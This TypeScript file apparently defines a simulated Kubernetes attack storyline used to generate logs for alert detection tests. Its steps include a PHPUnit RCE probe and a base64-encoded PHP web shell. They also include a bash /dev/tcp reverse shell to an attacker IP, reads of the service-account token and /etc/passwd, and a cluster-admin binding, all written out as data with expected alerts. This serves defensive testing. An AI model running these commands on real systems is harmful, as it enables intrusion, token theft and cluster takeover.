import { IP, USER_AGENT } from '../cluster/constants';
import type { Random } from '../../src/shared/random';
import {
  SERVICE_ACCOUNT_LOOKALIKES,
  anonymisingProxyIp,
  externalIp,
  nameFrom,
  reverseShellPort,
} from '../scenario/indicators';
import type { StepAction, Storyline, StorylineDefinition } from '../scenario/storyline';

const VICTIM = { namespace: 'shop', workload: 'storefront' };
/** File names a web shell hides under in an uploads folder. */
const SHELL_NAMES: readonly string[] = [
  '.thumb.php',
  '.cache.php',
  'img_resize.php',
  '.session.php',
  'favicon.php',
  'upload_tmp.php',
];
const curlApi = (args: string) => `curl -sk -H "Authorization: Bearer $T" ${args}`;
const queryString = (command: string) => encodeURIComponent(command).replace(/%20/g, '+');

/** B5 + B6: web RCE in the storefront, its service-account token stolen, secrets read, a cluster-admin binding minted. */
export const stolenTokenEscalation: StorylineDefinition = {
  id: 'stolen-token-escalation',
  title: 'Stolen service-account token to cluster-admin',
  summary:
    'A vulnerable PHP dependency gives a web shell in a storefront pod; its service-account token is then used from inside and outside the cluster to read secrets and bind a new account to cluster-admin.',
  build: buildStolenTokenEscalation,
};

function buildStolenTokenEscalation(random: Random): Storyline {
  const attackerIp = externalIp(random);
  const proxyIp = anonymisingProxyIp(random);
  const shellPath = `/uploads/${random.pick(SHELL_NAMES)}`;
  const listenerPort = reverseShellPort(random);
  const account = nameFrom(random, SERVICE_ACCOUNT_LOOKALIKES);
  const roleName = `system:${account.replace(/-(probe|agent|reporter|helper)$/, '')}`;
  const bindingName = `${roleName}-binding`;
  const reverseShell = `bash -c 'bash -i >& /dev/tcp/${attackerIp}/${listenerPort} 0>&1'`;
  const webShellCommand = (
    command: string,
    exe: string,
    files: { path: string; operation: 'read' }[] = [],
  ): StepAction[] => [
    {
      type: 'http',
      client: attackerIp,
      method: 'GET',
      path: `${shellPath}?c=${queryString(command)}`,
      status: 200,
      bytes: 64,
      userAgent: USER_AGENT.pythonRequests,
      pod: VICTIM,
    },
    {
      type: 'process',
      pod: VICTIM,
      container: 'php-fpm',
      exe,
      cmdline: command,
      parentExe: '/bin/sh',
      user: 'www-data',
      files,
    },
  ];
  return {
    id: stolenTokenEscalation.id,
    title: stolenTokenEscalation.title,
    summary: stolenTokenEscalation.summary,
    indicators: {
      attackerIp,
      proxyIp,
      webShell: shellPath,
      serviceAccount: `kube-system/${account}`,
      clusterRole: roleName,
      binding: bindingName,
    },
    attackHourUtc: 11,
    actors: {
      tokenInPod: { kind: 'podToken', pod: VICTIM, sourceIp: IP.clusterEgress, userAgent: USER_AGENT.curl },
      tokenOutside: { kind: 'podToken', pod: VICTIM, sourceIp: attackerIp, userAgent: USER_AGENT.kubectl },
      newAdmin: {
        kind: 'serviceAccount',
        namespace: 'kube-system',
        name: account,
        sourceIp: proxyIp,
        userAgent: USER_AGENT.kubectl,
      },
    },
    steps: [
      {
        at: 0,
        description: 'Probes the exposed PHPUnit eval-stdin.php (CVE-2017-9841)',
        actions: [
          {
            type: 'http',
            client: attackerIp,
            method: 'GET',
            path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
            status: 200,
            bytes: 0,
            userAgent: USER_AGENT.pythonRequests,
            pod: VICTIM,
          },
        ],
      },
      {
        at: 10,
        description: 'Runs `id` through the RCE',
        actions: [
          {
            type: 'http',
            client: attackerIp,
            method: 'POST',
            path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
            status: 200,
            bytes: 54,
            userAgent: USER_AGENT.pythonRequests,
            pod: VICTIM,
          },
          {
            type: 'process',
            pod: VICTIM,
            container: 'php-fpm',
            exe: '/bin/sh',
            cmdline: 'sh -c id',
            parentExe: 'php-fpm: pool www',
            user: 'www-data',
          },
        ],
      },
      {
        at: 40,
        description: 'Writes a web shell to the uploads folder',
        actions: [
          {
            type: 'http',
            client: attackerIp,
            method: 'POST',
            path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
            status: 200,
            bytes: 0,
            userAgent: USER_AGENT.pythonRequests,
            pod: VICTIM,
          },
          {
            type: 'process',
            pod: VICTIM,
            container: 'php-fpm',
            exe: '/bin/sh',
            cmdline: `sh -c 'echo PD9waHAgZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/html${shellPath}'`,
            parentExe: 'php-fpm: pool www',
            user: 'www-data',
            files: [{ path: `/var/www/html${shellPath}`, operation: 'write' }],
          },
        ],
      },
      { at: 70, description: 'whoami', actions: webShellCommand('whoami', '/usr/bin/whoami') },
      { at: 76, description: 'id', actions: webShellCommand('id', '/usr/bin/id') },
      { at: 81, description: 'uname -a', actions: webShellCommand('uname -a', '/usr/bin/uname') },
      {
        at: 87,
        description: 'cat /etc/passwd',
        actions: webShellCommand('cat /etc/passwd', '/usr/bin/cat', [
          { path: '/etc/passwd', operation: 'read' },
        ]),
      },
      {
        at: 98,
        description: 'Lists the service-account mount',
        actions: webShellCommand('ls -la /var/run/secrets/kubernetes.io/serviceaccount', '/usr/bin/ls'),
      },
      {
        at: 105,
        description: "Reads the pod's service-account token",
        actions: webShellCommand('cat /var/run/secrets/kubernetes.io/serviceaccount/token', '/usr/bin/cat', [
          { path: '/var/run/secrets/kubernetes.io/serviceaccount/token', operation: 'read' },
        ]),
      },
      {
        at: 150,
        description: `Opens a reverse shell to ${attackerIp}:${listenerPort}`,
        actions: [
          {
            type: 'http',
            client: attackerIp,
            method: 'GET',
            path: `${shellPath}?c=${queryString(reverseShell)}`,
            status: 200,
            bytes: 0,
            userAgent: USER_AGENT.pythonRequests,
            pod: VICTIM,
          },
          {
            type: 'process',
            pod: VICTIM,
            container: 'php-fpm',
            exe: '/bin/bash',
            cmdline: reverseShell,
            parentExe: '/bin/sh',
            user: 'www-data',
            connections: [{ ip: attackerIp, port: listenerPort }],
          },
        ],
      },
      {
        at: 180,
        description: 'Asks the API server what the token may do',
        actions: [
          {
            type: 'process',
            pod: VICTIM,
            container: 'php-fpm',
            exe: '/usr/bin/curl',
            cmdline: curlApi(
              `-X POST -H 'Content-Type: application/json' https://kubernetes.default.svc/apis/authorization.k8s.io/v1/selfsubjectrulesreviews -d '{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}}'`,
            ),
            parentExe: '/bin/bash',
            user: 'www-data',
            connections: [{ ip: IP.apiServerService, port: 443 }],
          },
          {
            type: 'api',
            actor: 'tokenInPod',
            verb: 'create',
            resource: 'selfsubjectrulesreviews',
            apiGroup: 'authorization.k8s.io',
            code: 201,
            requestObject: {
              apiVersion: 'authorization.k8s.io/v1',
              kind: 'SelfSubjectRulesReview',
              spec: { namespace: 'shop' },
            },
          },
        ],
      },
      {
        at: 210,
        description: 'Lists secrets in shop, then in every namespace',
        actions: [
          {
            type: 'process',
            pod: VICTIM,
            container: 'php-fpm',
            exe: '/usr/bin/curl',
            cmdline: curlApi('https://kubernetes.default.svc/api/v1/namespaces/shop/secrets'),
            parentExe: '/bin/bash',
            user: 'www-data',
            connections: [{ ip: IP.apiServerService, port: 443 }],
          },
          { type: 'api', actor: 'tokenInPod', verb: 'list', resource: 'secrets', namespace: 'shop' },
          { type: 'api', actor: 'tokenInPod', verb: 'list', resource: 'secrets', query: 'limit=500' },
        ],
      },
      {
        at: 250,
        description: 'Reads the database secret',
        actions: [
          {
            type: 'api',
            actor: 'tokenInPod',
            verb: 'get',
            resource: 'secrets',
            namespace: 'shop',
            name: 'storefront-db',
          },
        ],
      },
      {
        at: 420,
        description: 'Uses the stolen token from the attacker laptop',
        actions: [
          { type: 'api', actor: 'tokenOutside', verb: 'list', resource: 'secrets', query: 'limit=500' },
        ],
      },
      {
        at: 460,
        description: 'Creates a service account in kube-system',
        actions: [
          {
            type: 'api',
            actor: 'tokenOutside',
            verb: 'create',
            resource: 'serviceaccounts',
            namespace: 'kube-system',
            query: 'fieldManager=kubectl-create&fieldValidation=Strict',
            code: 201,
            requestObject: {
              kind: 'ServiceAccount',
              apiVersion: 'v1',
              metadata: { name: account, namespace: 'kube-system', creationTimestamp: null },
            },
          },
        ],
      },
      {
        at: 475,
        description: 'Creates a wildcard ClusterRole named like a system role',
        actions: [
          {
            type: 'api',
            actor: 'tokenOutside',
            verb: 'create',
            resource: 'clusterroles',
            apiGroup: 'rbac.authorization.k8s.io',
            query: 'fieldManager=kubectl-create&fieldValidation=Strict',
            code: 201,
            requestObject: {
              kind: 'ClusterRole',
              apiVersion: 'rbac.authorization.k8s.io/v1',
              metadata: { name: roleName, creationTimestamp: null },
              rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
            },
            grants: {
              clusterRole: {
                name: roleName,
                rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
              },
            },
          },
        ],
      },
      {
        at: 490,
        description: 'Binds the new service account to cluster-admin',
        actions: [
          {
            type: 'api',
            actor: 'tokenOutside',
            verb: 'create',
            resource: 'clusterrolebindings',
            apiGroup: 'rbac.authorization.k8s.io',
            query: 'fieldManager=kubectl-create&fieldValidation=Strict',
            code: 201,
            requestObject: {
              kind: 'ClusterRoleBinding',
              apiVersion: 'rbac.authorization.k8s.io/v1',
              metadata: { name: bindingName, creationTimestamp: null },
              roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
              subjects: [{ kind: 'ServiceAccount', name: account, namespace: 'kube-system' }],
            },
            grants: {
              clusterRoleBinding: {
                name: bindingName,
                role: 'cluster-admin',
                serviceAccount: { namespace: 'kube-system', name: account },
              },
            },
          },
        ],
      },
      {
        at: 510,
        description: 'Mints a one-year token for it',
        actions: [
          {
            type: 'api',
            actor: 'tokenOutside',
            verb: 'create',
            resource: 'serviceaccounts',
            subresource: 'token',
            namespace: 'kube-system',
            name: account,
            code: 201,
            requestObject: {
              kind: 'TokenRequest',
              apiVersion: 'authentication.k8s.io/v1',
              spec: { audiences: null, expirationSeconds: 31536000, boundObjectRef: null },
            },
          },
        ],
      },
      {
        at: 1500,
        description: 'Comes back through a TOR exit with the new token and dumps every secret',
        actions: [
          {
            type: 'api',
            actor: 'newAdmin',
            verb: 'create',
            resource: 'selfsubjectaccessreviews',
            apiGroup: 'authorization.k8s.io',
            code: 201,
            requestObject: {
              kind: 'SelfSubjectAccessReview',
              apiVersion: 'authorization.k8s.io/v1',
              spec: { resourceAttributes: { verb: '*', resource: '*' } },
            },
          },
          { type: 'api', actor: 'newAdmin', verb: 'list', resource: 'secrets', query: 'limit=500' },
        ],
      },
    ],
    expectedAlerts: [
      { alertType: 'K8S.NODE_ReconnaissanceArtifactsBurst', step: 6 },
      { alertType: 'K8S.NODE_ReverseShell', step: 9 },
      { alertType: 'K8S.NODE_KubernetesAPI', step: 10 },
      { alertType: 'K8S_ServiceAccountRareOperation', step: 13 },
      { alertType: 'K8S_HighPrivilegesRole', step: 15 },
      { alertType: 'K8S_ClusterAdminBinding', step: 16 },
      { alertType: 'K8S_TI_Proxy', step: 18 },
    ],
  };
}
